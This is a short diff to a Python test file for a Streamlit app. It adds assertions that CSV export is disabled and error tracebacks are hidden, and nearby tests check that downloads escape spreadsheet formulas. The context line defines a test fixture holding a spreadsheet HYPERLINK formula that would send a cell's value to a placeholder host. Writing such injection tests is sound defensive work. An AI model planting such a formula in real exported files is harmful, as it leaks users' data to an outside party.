@@ -27,6 +27,8 @@ EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
 def test_the_tables_own_csv_export_is_off() -> None:
     config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
     assert config["client"]["disableDataExport"] is True
+    # and an unexpected error shows no traceback (it stays in the server log)
+    assert config["client"]["showErrorDetails"] == "none"
 
 
 def test_videos_page_download_escapes_formulas(
